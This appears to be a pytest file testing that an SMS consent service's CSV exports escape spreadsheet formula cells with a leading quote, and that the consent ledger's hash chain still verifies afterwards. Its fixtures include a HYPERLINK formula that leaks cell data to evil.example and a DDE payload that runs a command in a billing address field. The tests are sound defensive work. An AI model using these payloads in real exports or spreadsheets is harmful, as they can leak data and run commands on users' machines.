"""Every CSV heed exports neutralises cells a spreadsheet would run as formulas.

The consent ledger's export still verifies against its hashes once the escaping
is undone (adapters/csvfile.py ``original``).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import datetime
from typing import Any

from starlette.testclient import TestClient

from heed.adapters.csvfile import original
from heed.bootstrap import Heed
from heed.domain.consent import LedgerEntry, verify_chain
from heed.services import accounts
from heed.services.accounts import NewAccount

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
PASSWORD = "correct horse battery"


def _text(client: TestClient, auth: dict[str, str], to: str, body: str, frm: str) -> None:
    response = client.post(
        "/v1/inbound/sms",
        json={"from": frm, "to": to, "body": body, "message_id": f"csv-{frm}-{len(body)}"},
        headers=auth,
    )
    assert response.status_code == 200 and response.json()["action"] == "opted_out"


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _entries(account_id: str, rows: list[dict[str, str]]) -> list[LedgerEntry]:
    def value(row: dict[str, str], field: str) -> str:
        return original(row[field])

    return [
        LedgerEntry(
            account_id=account_id,
            seq=int(row["seq"]),
            address=value(row, "address"),
            channel=value(row, "channel"),
            scope=value(row, "scope"),
            action=value(row, "action"),
            source=value(row, "source"),
            body=value(row, "body") or None,
            provider_message_id=value(row, "provider_message_id") or None,
            actor=value(row, "actor"),
            at=datetime.fromisoformat(row["at"]),
            prev_hash=row["prev_hash"],
            hash=row["hash"],
            via=value(row, "via") or None,
            stripe=int(row["stripe"]) if row["stripe"] not in (None, "") else None,
        )
        for row in rows
    ]


def _stops_with_formulas(client: TestClient, gateway: dict[str, str], business_number: str) -> None:
    _text(client, gateway, business_number, "+cmd please stop texting me", "+15122449031")
    _text(client, gateway, business_number, HYPERLINK + " stop texting me", "+15122449032")


def test_the_api_consent_export_writes_formula_bodies_behind_a_quote_and_still_verifies(
    client: TestClient,
    auth: dict[str, str],
    gateway: dict[str, str],
    account: NewAccount,
    business_number: str,
) -> None:
    _stops_with_formulas(client, gateway, business_number)
    exported = client.get("/v1/consent/events?format=csv", headers=auth)
    assert exported.status_code == 200
    rows = _rows(exported.text)
    # In seq order: the two numbers' stripes decide which comes first.
    assert sorted(row["body"] for row in rows) == [
        "'+cmd please stop texting me",
        "'" + HYPERLINK + " stop texting me",
    ]
    # E.164 numbers are numbers with a sign: left as they are.
    assert sorted(row["address"] for row in rows) == ["+15122449031", "+15122449032"]
    assert verify_chain(_entries(account.account_id, rows)) is None


def _sign_in(client: TestClient, heed: Heed, account: NewAccount) -> None:
    email = f"csv-{account.account_id[-6:]}@acme.example"
    accounts.create_user(heed.uow, account.account_id, email, PASSWORD, "admin")
    page = client.get("/login")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert csrf
    signed_in = client.post(
        "/login",
        data={"email": email, "password": PASSWORD, "csrf_token": csrf.group(1), "next": "/"},
        follow_redirects=False,
    )
    assert signed_in.status_code == 303, signed_in.text


def test_the_staff_ar_and_ledger_exports_write_formulas_behind_a_quote(
    client: TestClient,
    heed: Heed,
    account: NewAccount,
    gateway: dict[str, str],
    business_number: str,
    make_customer: Callable[..., dict[str, Any]],
) -> None:
    make_customer(HYPERLINK, billing_address="@SUM(1+1)*cmd|' /C calc'!A0")
    _stops_with_formulas(client, gateway, business_number)
    _sign_in(client, heed, account)

    ar = client.get("/ar.csv")
    assert ar.status_code == 200 and ar.headers["content-type"].startswith("text/csv")
    [row] = [r for r in _rows(ar.text) if "HYPERLINK" in r["name"]]
    assert row["name"] == "'" + HYPERLINK
    assert row["billing_address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"

    ledger = client.get("/consent.csv")
    assert ledger.status_code == 200
    bodies = [r["body"] for r in _rows(ledger.text)]
    assert sorted(bodies) == ["'+cmd please stop texting me", "'" + HYPERLINK + " stop texting me"]
